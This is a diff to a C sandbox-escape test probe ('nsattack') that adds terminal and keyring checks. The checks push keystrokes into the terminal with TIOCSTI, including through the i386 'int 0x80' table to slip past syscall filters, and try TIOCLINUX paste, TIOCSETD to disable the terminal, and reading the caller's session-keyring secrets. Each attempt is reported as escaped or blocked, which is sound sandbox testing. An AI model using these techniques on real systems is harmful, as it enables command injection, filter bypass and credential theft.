@@ -694,6 +694,104 @@ static void do_ra(const char *iface, const char *prefix) {
     close(s);
 }
 /* end of network */
+/* terminal and keyring (issue 13, items 2 and 6) */
+#include <sys/mman.h>
+#include <sys/syscall.h>
+
+/* An i386 system call through `int 0x80` (arguments must be 32-bit addresses). */
+static long int80(long nr, long a, long b, long c) {
+    long ret;
+    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
+    return ret;
+}
+
+/* TIOCSTI of TEXT through the i386 table, in a child: a filter may kill it. */
+static void tty_int80(int fd, const char *text) {
+    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+    if (low == MAP_FAILED) { printf("INFO mmap MAP_32BIT: %s\n", strerror(errno)); return; }
+    pid_t pid = fork();
+    if (pid == 0) {
+        for (const char *c = text; *c; c++) {
+            low[0] = *c;
+            long rc = int80(54 /* i386 ioctl */, fd, TIOCSTI, (long)(unsigned long)low);
+            if (rc != 0) _exit(rc < 0 && rc > -4096 ? (int)-rc : 100);
+        }
+        _exit(0);
+    }
+    int status = 0;
+    waitpid(pid, &status, 0);
+    const char *what = "TIOCSTI through int 0x80 (i386 table)";
+    if (WIFEXITED(status) && WEXITSTATUS(status) == 0) escape(what, "keystrokes pushed into the terminal");
+    else if (WIFSIGNALED(status)) { char d[64]; snprintf(d, sizeof d, "killed by signal %d", WTERMSIG(status)); blocked(what, d); }
+    else { char d[64]; snprintf(d, sizeof d, "errno %d (%s)", WEXITSTATUS(status), strerror(WEXITSTATUS(status))); blocked(what, d); }
+}
+
+/* tty MARKER: every way of acting on the terminal at fd 0. The test checks the effects itself
+ * (bytes in the terminal's input, window size, line discipline): MARKER is never printed.
+ * TIOCSETD comes last, as N_NULL silences the terminal this program writes to. */
+static void do_tty(const char *marker) {
+    if (!isatty(0)) { printf("INFO fd 0 is not a terminal\n"); exit(2); }
+    char text[128];
+    snprintf(text, sizeof text, "%sN\n", marker);
+    int ok = 1;
+    for (const char *c = text; *c; c++) if (ioctl(0, TIOCSTI, c) != 0) { ok = 0; break; }
+    if (ok) escape("TIOCSTI (CVE-2017-5226)", "keystrokes pushed into the terminal");
+    else blocked_errno("TIOCSTI (CVE-2017-5226)");
+    snprintf(text, sizeof text, "%sI\n", marker);
+    tty_int80(0, text);
+    /* TIOCLINUX needs a virtual console: on a pty the kernel's tty layer answers ENOTTY, and
+     * only a filter answers EPERM (the test tells the two apart). */
+    char sub[2] = {3 /* TIOCL_PASTESEL */, 0};
+    if (ioctl(0, TIOCLINUX, sub) == 0) escape("TIOCLINUX (CVE-2023-1523)", "pasted into the console");
+    else if (errno == EPERM) blocked_errno("TIOCLINUX (CVE-2023-1523)");
+    else printf("INFO TIOCLINUX reached the tty layer: %s\n", strerror(errno));
+    struct winsize ws = {.ws_row = 11, .ws_col = 13};
+    if (ioctl(0, TIOCSWINSZ, &ws) == 0) escape("TIOCSWINSZ", "the terminal's window size changed");
+    else blocked_errno("TIOCSWINSZ");
+    int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
+    if (fd >= 0) { printf("INFO /dev/tty opens: a controlling terminal\n"); close(fd); }
+    else printf("INFO /dev/tty: %s\n", strerror(errno));
+    printf("INFO trying TIOCSETD N_NULL\n");
+    fflush(stdout);
+    int null_ldisc = 27;
+    if (ioctl(0, TIOCSETD, &null_ldisc) == 0) escape("TIOCSETD N_NULL", "the terminal is dead");
+    else blocked_errno("TIOCSETD N_NULL");
+}
+
+/* keyring-session DESC VALUE CMD...: on the host side, a new session keyring holding the
+ * `user` key DESC=VALUE (as `keyctl session - ; keyctl add user DESC VALUE @s`), its serial
+ * number in NSC_KEY_ID, then exec CMD. */
+static int do_keyring_session(const char *desc, const char *value, char **cmd) {
+    if (syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, NULL) < 0) { perror("nsattack: keyctl join"); return 2; }
+    long key = syscall(SYS_add_key, "user", desc, value, strlen(value), -3 /* @s */);
+    if (key < 0) { perror("nsattack: add_key"); return 2; }
+    char id[32];
+    snprintf(id, sizeof id, "%ld", key);
+    setenv("NSC_KEY_ID", id, 1);
+    execvp(cmd[0], cmd);
+    perror("nsattack: exec");
+    return 2;
+}
+
+/* keyring DESC: the caller's `user` key DESC must be out of reach, by search from the session
+ * keyring and by its serial number (NSC_KEY_ID, when the caller passed it down). */
+static void do_keyring(const char *desc) {
+    char buf[256];
+    long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3 /* @s */, "user", desc, 0);
+    if (key < 0) blocked_errno("find the caller's key from the session keyring");
+    else {
+        long n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, buf, sizeof buf - 1);
+        if (n >= 0) { buf[n < (long)sizeof buf ? n : (long)sizeof buf - 1] = 0; escape("read the caller's key found from the session keyring", buf); }
+        else blocked_errno("read the caller's key found from the session keyring");
+    }
+    const char *id = getenv("NSC_KEY_ID");
+    if (id && *id) {
+        long n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, atol(id), buf, sizeof buf - 1);
+        if (n >= 0) { buf[n < (long)sizeof buf ? n : (long)sizeof buf - 1] = 0; escape("read the caller's key by its serial number", buf); }
+        else blocked_errno("read the caller's key by its serial number");
+    } else printf("INFO NSC_KEY_ID is not set: no read by serial number\n");
+}
+/* end of terminal and keyring */
 
 int main(int argc, char **argv) {
     setvbuf(stdout, NULL, _IOLBF, 0);
@@ -718,6 +816,9 @@ int main(int argc, char **argv) {
     else if (!strcmp(m, "arp-spoof") && argc == 5) do_arp_spoof(argv[2], argv[3], atoi(argv[4]));
     else if (!strcmp(m, "ra") && argc == 4) do_ra(argv[2], argv[3]);
     /* end of network */
+    else if (!strcmp(m, "tty") && argc == 3) do_tty(argv[2]); /* terminal */
+    else if (!strcmp(m, "keyring") && argc == 3) do_keyring(argv[2]); /* keyring */
+    else if (!strcmp(m, "keyring-session") && argc >= 5) return do_keyring_session(argv[2], argv[3], argv + 4); /* keyring */
     else if (!strcmp(m, "sleep") && argc >= 3) { usleep(atoi(argv[2]) * 1000); }
     else { fprintf(stderr, "nsattack: unknown mode %s\n", m); return 2; }
     fflush(stdout);
